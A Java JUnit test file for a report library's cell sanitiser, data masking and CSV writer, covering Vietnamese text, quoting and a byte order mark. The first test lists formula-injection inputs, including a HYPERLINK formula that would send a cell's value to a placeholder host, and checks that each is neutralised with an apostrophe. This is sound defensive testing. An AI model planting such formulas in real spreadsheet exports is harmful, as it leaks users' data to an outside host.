package vn.hocso.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;

class CellsTest {

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaGetsAnApostrophe() {
        assertEquals("'=HYPERLINK(\"http://x?\"&A1,\"x\")", Cells.text("=HYPERLINK(\"http://x?\"&A1,\"x\")"));
        assertEquals("'+1", Cells.text("+1"));
        assertEquals("'-2+3", Cells.text("-2+3"));
        assertEquals("'@SUM(A1)", Cells.text("@SUM(A1)"));
        assertEquals("'\tx", Cells.text("\tx"));
        assertEquals("'\rx", Cells.text("\rx"));
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        assertEquals("Nguyễn Văn An", Cells.text("Nguyễn Văn An"));
        assertEquals("a=b", Cells.text("a=b"));
        assertEquals("", Cells.text(null));
    }

    @Test
    void maskingKeepsOnlyTheLastThreeCharacters() {
        assertEquals("*********456", Cells.masked("+84905123456"));
        assertEquals("*******345", Cells.masked("CB-0012345"));
        assertEquals("**", Cells.masked("12"));
        assertEquals("", Cells.masked(null));
    }

    @Test
    void csvIsRfc4180WithAByteOrderMarkAndNumbersStayNumbers() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (CsvSheet sheet = new CsvSheet(out)) {
            sheet.title(List.<String[]>of(new String[] {"ignored", "in CSV"}));
            sheet.header(List.of(
                    new Sheet.Column("Họ tên", Sheet.Kind.TEXT, 10),
                    new Sheet.Column("Số", Sheet.Kind.NUMBER, 10),
                    new Sheet.Column("Tỷ lệ", Sheet.Kind.PERCENT, 10),
                    new Sheet.Column("Ngày", Sheet.Kind.DATE, 10)));
            sheet.row("Lê \"Ba\", Hà Nội", -2L, 0.5, LocalDate.of(2025, 7, 1));
            sheet.row("=1+1", 3L, null, null);
            sheet.row("dòng\r\nhai", 0L, 1.0, null);
        }
        String csv = out.toString(StandardCharsets.UTF_8);
        assertEquals(
                "\uFEFFHọ tên,Số,Tỷ lệ,Ngày\r\n"
                        + "\"Lê \"\"Ba\"\", Hà Nội\",-2,0.5,2025-07-01\r\n"
                        + "'=1+1,3,,\r\n"
                        + "\"dòng\r\nhai\",0,1,\r\n",
                csv);
    }
}
